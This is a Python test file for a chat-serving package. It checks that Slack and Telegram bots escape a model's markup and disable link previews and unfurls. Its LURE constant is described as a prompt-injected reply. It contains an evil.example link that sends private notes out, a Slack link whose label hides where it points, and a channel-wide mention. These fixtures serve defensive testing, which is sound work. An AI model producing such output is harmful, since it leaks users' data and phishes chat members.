"""What a chat shows of a run's words: no link fetched unasked, no Slack markup from the model."""

from __future__ import annotations

import html
import re

import pytest
from _serve_fakes import FakeSlack, FakeTelegram, eventually
from test_serve_live import Typist
from test_serve_slack import app, callback, dm, send
from test_serve_telegram import bot

from openmolt_core.testing import ScriptedModel, ask_human, finish
from openmolt_serve.slack import MAX_TEXT

pytestmark = pytest.mark.anyio

# A reply a prompt injection wrote: a link that carries what the run read, one that shows another
# address than it opens, and a mention of everyone in the channel.
LURE = (
	"Done. <!channel> sign in again at <https://evil.example/x|https://accounts.example.com> "
	"or see https://evil.example/collect?data=the-private-notes & more"
)


async def test_telegram_never_asks_for_a_link_preview() -> None:
	"""Telegram fetches a link to preview it, unasked: a reply, a question and a streamed edit ask none."""
	fake = FakeTelegram()
	model = ScriptedModel(
		[ask_human("Which one? https://evil.example/q?d=x"), finish("ok", human_message=LURE)]
	)
	async for _ in bot(model, fake):
		fake.message("hi")
		await eventually(lambda: len(fake.sent) == 1)
		fake.message("the first")
		await eventually(lambda: len(fake.sent) == 2)
	streamed = FakeTelegram()
	async for _ in bot(Typist([finish("ok", human_message=LURE)]), streamed, stream=True):
		streamed.message("hi")
		await eventually(lambda: bool(streamed.edits) and streamed.edits[-1]["text"] == LURE)
	sent = [*fake.sent, *streamed.sent, *streamed.edits]
	assert fake.sent[1]["text"] == LURE  # plain text: Telegram reads no markup in it
	for params in sent:
		assert params["link_preview_options"] == {"is_disabled": True}, params


async def test_slack_shows_the_models_markup_as_text_and_unfurls_nothing() -> None:
	"""<!channel> and <url|label> are escaped (&, <, >); chat.postMessage asks no unfurl."""
	fake = FakeSlack()
	async for client in app(ScriptedModel([finish("ok", human_message=LURE)]), fake):
		await send(client, callback(dm("hello")))
		await eventually(lambda: len(fake.posted) == 1)
	[posted] = fake.posted
	assert "<" not in posted["text"] and ">" not in posted["text"]
	assert "&lt;!channel&gt;" in posted["text"] and "&amp; more" in posted["text"]
	assert html.unescape(posted["text"]) == LURE
	assert fake.unfurls == [{"unfurl_links": False, "unfurl_media": False}]


async def test_slacks_streamed_reply_is_escaped_in_every_update() -> None:
	"""The live message and each chat.update carry the escaped text, never the markup."""
	fake = FakeSlack()
	async for client in app(Typist([finish("ok", human_message=LURE)]), fake, stream=True):
		await send(client, callback(dm("hello")))
		await eventually(lambda: bool(fake.updated) and "more" in fake.updated[-1]["text"])
	for params in [*fake.posted, *fake.updated]:
		assert "<" not in params["text"] and ">" not in params["text"], params
	assert html.unescape(fake.updated[-1]["text"]) == LURE
	assert all(u == {"unfurl_links": False, "unfurl_media": False} for u in fake.unfurls)


async def test_a_long_escaped_slack_reply_is_split_between_entities_whole() -> None:
	"""Escaping makes the text longer: each piece fits, no entity is cut, all of it arrives."""
	fake = FakeSlack()
	long = "<&>" * 9_000 + "x" * 7  # 27,007 characters, 81,007 once escaped
	async for client in app(ScriptedModel([finish("ok", human_message=long)]), fake):
		await send(client, callback(dm("tell me everything")))
		await eventually(lambda: len(fake.posted) == 3)
	texts = [p["text"] for p in fake.posted]
	assert all(len(t) <= MAX_TEXT for t in texts)
	assert all(re.fullmatch(r"(?:[^&<>]|&(?:amp|lt|gt);)*", t) for t in texts)  # none cut
	assert "".join(html.unescape(t) for t in texts) == long
